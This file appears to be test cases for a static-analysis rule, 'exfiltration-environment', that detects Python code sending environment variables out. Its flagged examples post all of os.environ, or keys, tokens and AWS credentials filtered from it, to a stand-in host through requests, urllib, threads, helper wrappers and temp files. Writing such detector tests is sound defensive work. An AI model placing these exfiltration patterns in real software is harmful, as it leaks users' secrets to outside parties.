import base64, json, os, requests, subprocess, threading
import urllib.request


def whole():
    body = json.dumps(dict(os.environ)).encode()
    # ruleid: exfiltration-environment
    urllib.request.urlopen(urllib.request.Request("https://a.invalid/p", data=body))


def filtered():
    taken = {k: v for k, v in os.environ.items() if "KEY" in k}
    # ruleid: exfiltration-environment
    requests.post("https://a.invalid/p", json={"d": taken})


def one():
    # ok: exfiltration-environment
    requests.post("https://a.invalid/p", json={"region": os.environ.get("ACME_REGION")})


def configured():
    settings = Settings.parse(os.environ)
    # ok: exfiltration-environment
    requests.post("https://a.invalid/p", json={"t": settings.topic})


def child():
    env = dict(os.environ)
    # ok: exfiltration-environment
    requests.post("https://a.invalid/p", json={"n": len(env)})


def wrapped(data):
    return {"v": 1, "d": base64.b64encode(repr(data).encode())}


def by_helper():
    # ruleid: exfiltration-environment
    requests.post("https://a.invalid/p", json=wrapped(os.environ.copy()))
    # ok: exfiltration-environment
    requests.post("https://a.invalid/p", json=wrapped({"a": 1}))


def by_file():
    with open("/tmp/report.json", "w") as out:
        out.write(json.dumps(dict(os.environ)))
    # ruleid: exfiltration-environment
    requests.post("https://a.invalid/p", files={"f": open("/tmp/report.json", "rb")})


def in_a_thread():
    threading.Thread(target=later, args=(dict(os.environ),)).start()


def later(data):
    # ruleid: exfiltration-environment
    urllib.request.urlopen("https://a.invalid/p", json.dumps(data).encode())


class Sender:
    def __init__(self, body):
        self.body = body

    def go(self):
        # ruleid: exfiltration-environment
        requests.post("https://a.invalid/p", json=self.body)


def as_object():
    Sender(list(os.environ.values())).go()


def to_a_program():
    # ok: exfiltration-environment
    done = subprocess.run(["acme", "list"], env=dict(os.environ, LANG="C"), capture_output=True)
    # ok: exfiltration-environment
    requests.post("https://a.invalid/p", json={"text": done.stdout})


def own_prefix():
    taken = {k: v for k, v in os.environ.items() if k.startswith("ACME_")}
    # ok: exfiltration-environment
    requests.post("https://a.invalid/p", json=taken)


def of_courses():
    found = {}
    for key, value in os.environ.items():
        if key.startswith("S") and key.endswith("_COURSE_ID") and value:
            found[key[: -len("_COURSE_ID")]] = value
    # ok: exfiltration-environment
    requests.get("https://a.invalid/p", params=found)


def of_others(end):
    found = {}
    for key, value in os.environ.items():
        if key.endswith("_TOKEN") or key.endswith("_KEY") or key.startswith("AWS_"):
            found[key] = value
    # ruleid: exfiltration-environment
    requests.post("https://a.invalid/p", json=found)
    # ruleid: exfiltration-environment
    requests.post("https://a.invalid/p", json=[value for key, value in os.environ.items() if key.endswith("_KEY")])


def of_an_end_that_nobody_knows(end):
    for key, value in os.environ.items():
        if key.endswith(end):
            # ruleid: exfiltration-environment
            requests.post("https://a.invalid/p", data=value)


def of_any_beside_its_own():
    for key, value in os.environ.items():
        if key.endswith("_COURSE_ID") or value:
            # ruleid: exfiltration-environment
            requests.post("https://a.invalid/p", data=value)


def of_all_but_its_own():
    for key, value in os.environ.items():
        if key.endswith("_COURSE_ID"):
            continue
        # ruleid: exfiltration-environment
        requests.post("https://a.invalid/p", data=value)


def of_none_but_its_own():
    for key, value in os.environ.items():
        if not key.endswith("_COURSE_ID"):
            continue
        # ok: exfiltration-environment
        requests.post("https://a.invalid/p", data=value)
